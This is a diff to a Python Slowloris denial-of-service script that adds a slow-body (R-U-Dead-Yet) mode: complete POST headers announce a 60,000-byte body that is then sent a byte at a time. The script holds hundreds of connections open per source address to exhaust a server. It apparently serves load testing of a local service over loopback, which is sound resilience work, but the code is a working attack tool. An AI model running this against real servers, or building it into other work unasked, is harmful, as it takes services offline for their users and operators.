@@ -4,6 +4,8 @@ a time, never finishing the request, from chosen loopback source addresses.
 
     python3 slowloris.py --port 8080 --sources 127.0.0.2 --per-source 500 --seconds 60
 
+With --body the headers are complete and the body trickles instead.
+
 Each connection is non-blocking and driven by one poll loop on a thread of its own; the
 attacker counts how many connections it got, how many the server closed (and after how
 long), and with reconnect=True opens a new one for each that was closed."""
@@ -17,7 +19,11 @@ import socket
 import threading
 import time
 
-REQUEST_START = b"GET /api/v1/health HTTP/1.1\r\nHost: sipbx\r\nX-Slow: "
+# Slow headers: the request line, then a header that never ends.
+HEADERS_START = b"GET /api/v1/health HTTP/1.1\r\nHost: sipbx\r\nX-Slow: "
+# Slow body (R-U-Dead-Yet): complete headers announcing a body that then trickles.
+BODY_START = (b"POST /api/v1/session HTTP/1.1\r\nHost: sipbx\r\n"
+              b"Content-Type: application/json\r\nContent-Length: 60000\r\n\r\n{\"username\":\"")
 
 
 def raise_fd_limit(want):
@@ -43,11 +49,12 @@ class Conn:
 
 class Slowloris:
     def __init__(self, port, sources, per_source, every=1.0, reconnect=False, host="127.0.0.1",
-                 reconnect_after=0.1):
+                 reconnect_after=0.5, body=False):
         self.addr = (host, port)
         self.sources = list(sources)
         self.per_source = per_source
         self.every = every  # seconds between two bytes of one connection
+        self.start_bytes = BODY_START if body else HEADERS_START
         self.reconnect = reconnect
         # seconds before a closed connection is reopened (a storm of instant refusals
         # would only burn the attacker's CPU, and the machine's)
@@ -121,7 +128,7 @@ class Slowloris:
                             continue
                         c.connected = now
                         try:
-                            c.sock.send(REQUEST_START)
+                            c.sock.send(self.start_bytes)
                         except OSError:
                             self._closed(c, now)
                             continue
@@ -176,10 +183,12 @@ def main():
     ap.add_argument("--per-source", type=int, default=500)
     ap.add_argument("--seconds", type=float, default=60)
     ap.add_argument("--reconnect", action="store_true")
+    ap.add_argument("--body", action="store_true", help="trickle a POST body, not headers")
     args = ap.parse_args()
     sources = args.sources.split(",")
     raise_fd_limit(len(sources) * args.per_source + 256)
-    s = Slowloris(args.port, sources, args.per_source, reconnect=args.reconnect, host=args.host)
+    s = Slowloris(args.port, sources, args.per_source, reconnect=args.reconnect, host=args.host,
+                  body=args.body)
     s.start()
     end = time.time() + args.seconds
     try:
